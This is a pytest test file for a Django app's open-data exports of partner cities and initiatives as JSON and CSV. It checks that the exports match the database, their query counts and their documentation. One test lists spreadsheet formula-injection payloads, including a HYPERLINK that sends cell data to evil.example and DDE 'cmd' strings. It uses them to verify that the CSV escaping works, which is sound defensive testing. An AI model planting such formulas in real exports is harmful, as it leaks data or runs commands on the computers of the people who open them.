"""Open data: cities and initiatives as JSON and CSV, equal to the database, one query each."""

import re
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from partnerships import exports
from partnerships.models import Initiative, PartnerCity
from tests.factories import make_city, make_initiative
from tests.html_text import csv_rows

pytestmark = pytest.mark.django_db


def test_cities_json_equals_the_database(client, initial_data):
    make_city(is_published=False, name="Чернова")
    data = client.get(reverse("partnerships:cities_json")).json()
    assert data["fields"] == exports.CITY_FIELDS
    cities = list(PartnerCity.objects.published())
    assert [i["slug"] for i in data["items"]] == [c.slug for c in cities]
    for item, city in zip(data["items"], cities, strict=True):
        assert (item["name_bg"], item["name_en"]) == (city.name_bg, city.name_en)
        assert (item["country"], item["since_year"]) == (city.country.code, city.since_year)
        assert (item["latitude"], item["longitude"]) == (
            float(city.latitude),
            float(city.longitude),
        )
        assert item["continent"] == city.continent
        assert item["url"] == f"http://testserver{city.get_absolute_url()}"
    kochani = next(i for i in data["items"] if i["slug"] == "kochani-makedoniya")
    assert (kochani["country_name_bg"], kochani["country_name_en"]) == (
        "Северна Македония",
        "North Macedonia",
    )


def test_cities_csv_equals_the_json(client, initial_data):
    rows = csv_rows(client.get(reverse("partnerships:cities_csv")))
    items = client.get(reverse("partnerships:cities_json")).json()["items"]
    assert list(rows[0]) == exports.CITY_FIELDS
    assert [r["slug"] for r in rows] == [i["slug"] for i in items]
    assert [int(r["since_year"]) for r in rows] == [i["since_year"] for i in items]


def test_initiatives_json_and_csv_equal_the_database(client, initial_data):
    kochani, grasse = PartnerCity.objects.filter(
        slug__in=["kochani-makedoniya", "gras-frantsiya"]
    ).order_by("since_year")
    hidden = make_city(is_published=False)
    make_initiative(cities=[kochani, grasse, hidden], title="Лагер", date="2021-07-01")
    make_initiative(cities=[], title="Форум", date="2022-01-01")
    make_initiative(cities=[grasse], title="Чернова", is_published=False)
    items = client.get(reverse("partnerships:initiatives_json")).json()["items"]
    expected = Initiative.objects.published()
    assert [i["slug"] for i in items] == [e.slug for e in expected]
    assert items[1]["partner_cities"] == ["kochani-makedoniya", "gras-frantsiya"]  # no draft city
    assert items[0]["partner_cities"] == []
    rows = csv_rows(client.get(reverse("partnerships:initiatives_csv")))
    assert list(rows[0]) == exports.INITIATIVE_FIELDS
    assert rows[1]["partner_cities"] == "kochani-makedoniya; gras-frantsiya"


@pytest.mark.parametrize(
    "name", ["cities_json", "cities_csv", "initiatives_json", "initiatives_csv"]
)
def test_one_query_per_export(client, initial_data, django_assert_num_queries, name):
    """One query for the rows, however many, besides the content version's (a request reads it
    first; a server process at most once a second)."""
    city = PartnerCity.objects.first()
    for n in range(30):
        make_initiative(cities=[city], title=f"И {n}")
    with django_assert_num_queries(2):
        client.get(reverse(f"partnerships:{name}"))


@pytest.mark.parametrize(
    ("heading", "fields"),
    [
        ("Partner cities export", exports.CITY_FIELDS),
        ("Initiatives export", exports.INITIATIVE_FIELDS),
    ],
)
def test_the_field_lists_are_documented(heading, fields):
    readme = (Path(settings.BASE_DIR) / "README.md").read_text()
    section = readme.split(f"### {heading}", 1)[1].split("\n##", 1)[0]
    assert re.findall(r"^\| `([a-z_]+)` \|", section, flags=re.MULTILINE) == fields


# What a spreadsheet runs when a cell starts with it (OWASP's examples and their cousins).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Кочани")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_csv_exports_turn_formulas_into_text_and_the_json_keeps_them(
    client, initial_data, formula
):
    """Staff text (or a compromised staff account's) must not run in a reuser's spreadsheet."""
    city = make_city(name=formula, name_en=formula, website="https://kocani.gov.mk/")
    make_initiative(cities=[city], title="Лагер", description=formula)
    cities = csv_rows(client.get(reverse("partnerships:cities_csv")))
    row = next(r for r in cities if r["slug"] == city.slug)
    assert row["name_bg"] == row["name_en"] == "'" + formula
    assert row["website"] == "https://kocani.gov.mk/"  # ordinary text is left alone
    initiatives = csv_rows(client.get(reverse("partnerships:initiatives_csv")))
    assert next(r for r in initiatives if r["title_bg"] == "Лагер")["description_bg"] == (
        "'" + formula
    )
    items = client.get(reverse("partnerships:cities_json")).json()["items"]
    assert next(i for i in items if i["slug"] == city.slug)["name_bg"] == formula


def test_negative_coordinates_stay_numbers_in_the_csv(client, initial_data):
    """Only text can carry a formula: a city west of Greenwich keeps a number a spreadsheet sums."""
    city = make_city(name="Порто", latitude="41.14961", longitude="-8.61099")
    row = next(
        r
        for r in csv_rows(client.get(reverse("partnerships:cities_csv")))
        if r["slug"] == city.slug
    )
    assert (row["latitude"], row["longitude"]) == ("41.14961", "-8.61099")
